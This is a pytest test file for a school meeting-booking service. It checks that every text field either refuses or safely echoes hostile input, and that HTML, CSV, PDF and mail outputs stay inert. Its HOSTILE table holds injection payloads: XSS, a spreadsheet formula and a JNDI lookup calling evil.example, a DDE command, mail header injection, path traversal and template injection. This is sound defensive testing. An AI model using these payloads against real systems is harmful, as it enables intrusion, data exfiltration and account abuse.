"""Whatever somebody types stays what it is: words. It is refused plainly, or kept and given back as typed.

Each place that takes words is tried with the same texts; what is shown of them as a page, a table to
keep or a mail is looked at below.
"""

import csv
import io
import json
from collections.abc import Callable
from dataclasses import dataclass
from email import message_from_bytes
from email.message import EmailMessage
from email.policy import SMTP
from functools import cache
from html.parser import HTMLParser
from typing import Any

import pytest

from functions.mailer.messages import compose
from functions.mailer.sending import _mail
from shared.adapters.talks import load_talk
from shared.domain.notice import NoticeKind
from shared.domain.people import Person
from shared.domain.slot import Place, PlaceKind
from tests.support.api import Answered
from tests.support.contents import in_memory
from tests.support.memory import MemoryStore
from tests.support.steps import Steps, a_term
from tests.support.templates import a_file
from tests.support.world import STOCKHOLM, a_school, fill

HOSTILE = {
    "a script": "<script>alert(1)</script>",
    "an image": '"><img src=x onerror=alert(1)>',
    "a frame": "<iframe src=javascript:alert(1)></iframe><svg/onload=alert(1)>",
    "a link in Markdown": "[a](javascript:alert(1)) <javascript:alert(1)> ![b](//evil.example)",
    "an entity": "&lt;script&gt;&#x6a;avascript&colon;alert(1)",
    "a formula": '=HYPERLINK("https://evil.example?"&A1;"a")',
    "a command": "+cmd|' /C calc'!A0",
    "a header": "a\r\nBcc: all@evil.example\r\n\r\n<h1>b</h1>",
    "another line": "a\u2028b\u2029c\x85d",
    "a turn of direction": "\u202egpj.exe\u2066",
    "nothing to see": "\u200b\ufeff\u2060a",
    "letters like others": "\u0458\u0430v\u0430script:alert(1)",
    "a NUL": "a\0b",
    "a terminal": "\x1b[2J\x1b]0;a\x07",
    "a path": "../../../etc/passwd%00.pdf",
    "a place in words": "{link} {0.__class__} %s %(a)s ${7*7} {{7*7}} <%= 1 %>",
    "a place in a log": "${jndi:ldap://evil.example/a}",
    "a condition": "attribute_exists(pk) OR #a = :b",
    "JSON": '"}],"roles":["higher"],"a":[{"b":"',
    "half of quotes": "'\"`",
    "too much": "å" * 100_001,
}
"""Texts that mean something to some program, if it takes them for its own language."""


@dataclass
class School:
    """A talk on its second day, and what belongs to it."""

    steps: Steps
    talk: str
    template: str

    def call(self, who: str, method: str, path: str, body: Any = None, **how: Any) -> Answered:
        return self.steps.call(who, method, path, body, **how)

    def of_talk(self, who: str, method: str, rest: str, body: Any, **how: Any) -> Answered:
        return self.call(who, method, f"/v1/talks/{self.talk}/{rest}", body, **how)


@cache
def made() -> tuple[School, Any]:
    """The school, and what stands in its tables."""
    steps = a_term()
    talk = str(steps.booked()["id"])
    template = steps.call(
        "rektor", "POST", "/v1/templates", {"owner_id": "school", "file": a_file()}
    ).body["id"]
    path = f"/v1/templates/{template}"
    steps.call("rektor", "POST", f"{path}/publication", if_match='"1"')
    steps.call("rektor", "POST", f"{path}/sharing", if_match='"2"')
    agreed = {"goal": "Läsa", "owners": ["pupil"]}
    steps.at("2021-10-31 10:00").call("teacher", "POST", f"/v1/talks/{talk}/agreements", agreed)
    school = School(steps, talk, template)
    assert isinstance(steps.ports.store, MemoryStore)
    return school, in_memory(steps.ports.store)


@pytest.fixture
def school() -> School:
    """The school as it was made, whatever was done to it meanwhile."""
    school, contents = made()
    store = school.steps.ports.store
    assert isinstance(store, MemoryStore)
    store._tables = {table: dict(items) for table, items in contents.items()}
    school.steps.at("2021-10-31 10:00")
    return school


def _file(words: str) -> Any:
    """A template that says this in every place where it says anything."""
    file = a_file()
    said = {"sv": words}
    page = file["pages"][0]
    page |= {"title": said, "introduction": said}
    page["sections"][0] |= {"title": said, "introduction": said}
    for question in page["sections"][0]["questions"]:
        question |= {"prompt": said, "help": said}
    return file | {
        "title": said, "description": said, "target": said, "instructions": {"preparation": said},
        "labels": {"roles": {"guardian": said}},
    }  # fmt: skip


def _save_template(school: School, words: str) -> Answered:
    path = f"/v1/templates/{school.template}/draft"
    return school.call("rektor", "PUT", path, {"file": _file(words)}, if_match='"3"')


def _close(school: School, words: str) -> Answered:
    school.steps.at("2021-11-01 10:00")
    return school.of_talk("teacher", "POST", "closing", {"summary": words})


SERIES = {"talk_type": "development", "groups": ["5a"], "date": "2021-12-01", "start": "09:00"}
Says = Callable[[School, str], Answered]
PLACES: dict[str, tuple[Says, str | None]] = {
    "a text": (
        lambda s, w: s.of_talk("emil", "PUT", "texts/preparation/progress.pupil", {"text": w}, if_match='"0"'),
        "/v1/talks/{talk}",
    ),
    "a draft": (
        lambda s, w: s.of_talk(
            "emil", "PUT", "drafts/preparation/progress.pupil", {"text": w, "builds_on": 0}
        ),
        None,
    ),
    "the record": (
        lambda s, w: s.of_talk(
            "teacher", "PUT", "texts/record/knowledge.responsible", {"text": w}, if_match='"0"'
        ),
        "/v1/talks/{talk}",
    ),
    "a goal": (
        lambda s, w: s.of_talk("teacher", "POST", "agreements", {"goal": w, "owners": ["pupil"]}),
        "/v1/people/emil/agreements",
    ),
    "a strategy": (
        lambda s, w: s.of_talk(
            "teacher", "PUT", "agreements/1", {"goal": "a", "strategy": w, "owners": ["pupil"]}, if_match='"1"'
        ),
        "/v1/talks/{talk}",
    ),
    "a check-in": (
        lambda s, w: s.of_talk("teacher", "POST", "agreements/1/check-ins", {"text": w}),
        "/v1/talks/{talk}",
    ),
    "why a time is given back": (
        lambda s, w: s.of_talk("teacher", "POST", "cancellation", {"reason": w}), None,
    ),
    "the language of an interpreter": (
        lambda s, w: s.of_talk("teacher", "PUT", "interpreter", {"language": w}), None,
    ),
    "the name of a link": (
        lambda s, w: s.of_talk(
            "teacher", "POST", "attachments/links",
            {"phase": "record", "url": "https://skolan.example/", "name": w},
        ),
        "/v1/talks/{talk}/attachments",
    ),
    "the address of a link": (
        lambda s, w: s.of_talk("teacher", "POST", "attachments/links", {"phase": "record", "url": w}),
        "/v1/talks/{talk}/attachments",
    ),
    "the name of a file": (
        lambda s, w: s.of_talk(
            "teacher", "POST", "attachments/files", {"phase": "record", "name": f"{w}.pdf", "size": 9}
        ),
        None,
    ),
    "a place": (
        lambda s, w: s.call("teacher", "POST", "/v1/series", SERIES | {"place": {"kind": "room", "text": w}}),
        "/v1/weeks/2021-W48",
    ),
    "why hours are blocked": (
        lambda s, w: s.call(
            "teacher", "POST", "/v1/blocked-times",
            {"date": "2021-12-01", "start": "13:00", "end": "14:00", "reason": w},
        ),
        "/v1/weeks/2021-W48",
    ),
    "a template": (
        _save_template,
        None,
    ),
    "a comment": (
        lambda s, w: s.call(
            "teacher", "POST", f"/v1/templates/{s.template}/feedback", {"praise": False, "comment": w}
        ),
        "/v1/templates/{template}/feedback",
    ),
    "feedback on the product": (
        lambda s, w: s.call("mona", "POST", "/v1/product-feedback", {"kind": "idea", "words": w}), None,
    ),
    "a judgement": (
        lambda s, w: s.call(
            "teacher", "PUT", "/v1/people/emil/judgements/2021-autumn/BI",
            {"words": w, "proposed_goal": w}, if_match='"0"',
        ),
        "/v1/people/emil/results",
    ),
    "a grade": (
        lambda s, w: s.call(
            "teacher", "PUT", "/v1/people/emil/grades/2021-autumn/BI", {"value": w}, if_match='"0"'
        ),
        "/v1/people/emil/results",
    ),
    "a summary": (
        _close,
        "/v1/talks/{talk}",
    ),
}  # fmt: skip
"""How words are said in each place, and where the teacher then reads them, if anywhere."""

NO_WORDS = ("the language of an interpreter", "the address of a link")
"""Where nothing of the kind has any place."""


@pytest.mark.parametrize("place", PLACES)
def test_words_are_refused_plainly_or_given_back_as_they_were_typed(
    school: School, place: str
) -> None:
    say, where = PLACES[place]
    store = school.steps.ports.store
    assert isinstance(store, MemoryStore)
    taken = []
    before = in_memory(store)
    for what, words in HOSTILE.items():
        store._tables = {table: dict(items) for table, items in before.items()}
        answered = say(school, words)
        if answered.status >= 400:
            assert (answered.status, answered.problem) in {(422, "invalid"), (413, "too-large")}, (
                what
            )
            assert in_memory(store) == before, what
            continue
        taken.append(what)
        if where is not None:
            read = school.call("teacher", "GET", where.format(**vars(school)))
            assert read.headers["content-type"] == "application/json"
            assert words.strip() in _texts(read.body), (what, read.text[:500])
    assert bool(taken) is (place not in NO_WORDS)
    assert "a NUL" not in taken
    assert "too much" not in taken


def _texts(answer: Any) -> set[str]:
    """Every text of an answer, whole."""
    match answer:
        case dict():
            return set().union(*map(_texts, answer.values()))
        case list():
            return set().union(*map(_texts, answer))
    return {answer} if isinstance(answer, str) else set()


def test_a_templates_words_do_nothing_where_they_are_shown_as_a_page(school: School) -> None:
    """Formatted texts are the only HTML that an answer ever holds."""
    for what, words in HOSTILE.items():
        if _save_template(school, words).status == 422:
            continue
        shown = school.call("rektor", "GET", f"/v1/templates/{school.template}")
        assert _html(shown.body), what
        for html in _html(shown.body):
            page = Tags(html)
            assert page.tags <= {
                "p",
                "a",
                "br",
                "code",
                "em",
                "strong",
                "h1",
                "ol",
                "ul",
                "li",
                "blockquote",
                "pre",
                "hr",
            }, what
            assert page.attributes <= {"href", "rel", "start"}, what
            assert all(a.startswith(("https://", "http://", "mailto:")) for a in page.addresses), (
                what
            )


def _html(answer: Any) -> list[str]:
    match answer:
        case dict():
            own = [answer["html"]] if isinstance(answer.get("html"), str) else []
            return own + [html for value in answer.values() for html in _html(value)]
        case list():
            return [html for value in answer for html in _html(value)]
    return []


class Tags(HTMLParser):
    """What a browser finds in a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.addresses: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.addresses += [value or "" for name, value in attrs if name in ("href", "src")]


@cache
def _list_of(what: str, form: str) -> Answered:
    """The list of a day on which names and places are all this."""
    steps, words = a_term(), HOSTILE[what][:200]
    fill(
        steps.ports.store,
        [
            thing.model_copy(
                update={"given_name": words, "family_name": words}
                if hasattr(thing, "given_name")
                else {"name": words}
            )
            for thing in a_school()
            if thing.id in ("emil", "mona", "teacher", "5a", "school")
        ],
    )
    steps.booked()
    return steps.call("teacher", "GET", "/v1/days/2021-10-31", query={"format": form})


@pytest.mark.parametrize("what", HOSTILE)
def test_a_name_does_nothing_in_a_list_as_a_page(what: str) -> None:
    answered = _list_of(what, "html")
    page = Tags(answered.text)
    assert not page.tags & {"script", "img", "iframe", "svg", "a", "h1", "form", "object"}
    assert page.attributes <= {
        "lang", "charset", "http-equiv", "content", "name", "class", "scope",
    }  # fmt: skip
    assert answered.headers["content-security-policy"].startswith("default-src 'none'")


@pytest.mark.parametrize("what", HOSTILE)
def test_a_name_begins_no_formula_and_no_line_in_a_list_to_keep(what: str) -> None:
    answered = _list_of(what, "csv")
    rows = list(csv.reader(io.StringIO(answered.raw.decode("utf-8-sig")), delimiter=";"))
    assert {len(row) for row in rows} == {len(rows[0])}
    assert len(rows) == 2
    for cell in rows[1]:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
        assert not set(cell) & set("\r\n\0\u2028\u2029\u202e\u2066\x1b"), cell


@pytest.mark.slow
@pytest.mark.parametrize("what", HOSTILE)
def test_any_name_can_be_printed(what: str) -> None:
    answered = _list_of(what, "pdf")
    assert answered.headers["content-type"] == "application/pdf"
    for act in (b"/JavaScript", b"/Launch", b"/URI", b"/SubmitForm", b"/EmbeddedFile"):
        assert (act in answered.raw) is False, act


@pytest.mark.spec("D16")
@pytest.mark.parametrize("what", HOSTILE)
def test_no_word_becomes_a_header_or_a_part_of_a_mail(school: School, what: str) -> None:
    """Also not one that came into the tables before it would have been refused."""
    words = HOSTILE[what][:1_000]
    talk = load_talk(school.steps.ports.store, school.talk)
    assert talk.booking is not None
    there = talk.booking.model_copy(update={"place": Place(kind=PlaceKind.ROOM, text=words)})
    people = {p.id: p for p in a_school() if isinstance(p, Person)}
    named = people["emil"].model_copy(update={"given_name": words, "family_name": words})
    told = compose(
        NoticeKind.BOOKED, talk.model_copy(update={"booking": there}), people["mona"], named,
        "https://talks.example", STOCKHOLM,
    )  # fmt: skip
    mail = _mail("talks@school.example", "mona@home.example", told)
    assert isinstance(mail, EmailMessage)
    received = message_from_bytes(mail.as_bytes(policy=SMTP))
    plain = _mail(
        "talks@school.example", "mona@home.example", told.model_copy(update={"body": "a"})
    )
    assert sorted(received.keys()) == sorted(plain.keys())
    assert received["To"] == "mona@home.example"
    assert received["Bcc"] is None
    assert received.get_content_type() == "text/plain"
    assert not received.is_multipart()
    assert words not in str(received["Subject"])


def test_the_same_words_again_in_json_mean_no_more_than_once() -> None:
    """The texts above are what they seem to be: none of them is lost on its way through JSON."""
    assert {json.loads(json.dumps(words)) for words in HOSTILE.values()} == set(HOSTILE.values())
